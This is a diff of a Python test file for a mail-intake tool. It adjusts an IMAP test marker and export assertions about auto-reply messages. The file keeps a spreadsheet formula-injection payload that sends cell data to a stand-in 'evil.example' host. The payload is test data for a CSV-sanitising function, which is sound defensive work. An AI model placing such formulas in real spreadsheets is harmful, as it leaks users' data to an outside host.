@@ -14,8 +14,6 @@ from ipom_mail.desk.csv_safe import csv_cell
 from samples import _message, photo_jpeg
 from tests.desk_kit import Desk, polled_template
 
-pytestmark = pytest.mark.imap
-
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
@@ -79,7 +77,8 @@ def test_export_by_taken_month_finds_a_backlog_received_later(desk: Desk) -> Non
     taken = desk.run("export", "--month", "2024-05", "--by", "taken", "--format", "json")
     refs = {r["reference"] for r in json.loads(taken.output)}
     assert {desk.refs["01-complete.eml"], desk.refs["08-formula.eml"]} <= refs
-    assert desk.refs["04-autoreply.eml"] not in refs
+    assert "04-autoreply.eml" not in desk.refs  # an automatic reply never becomes a submission
+    assert refs <= set(desk.refs.values())
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_prefixed_and_numbers_stay_numbers(
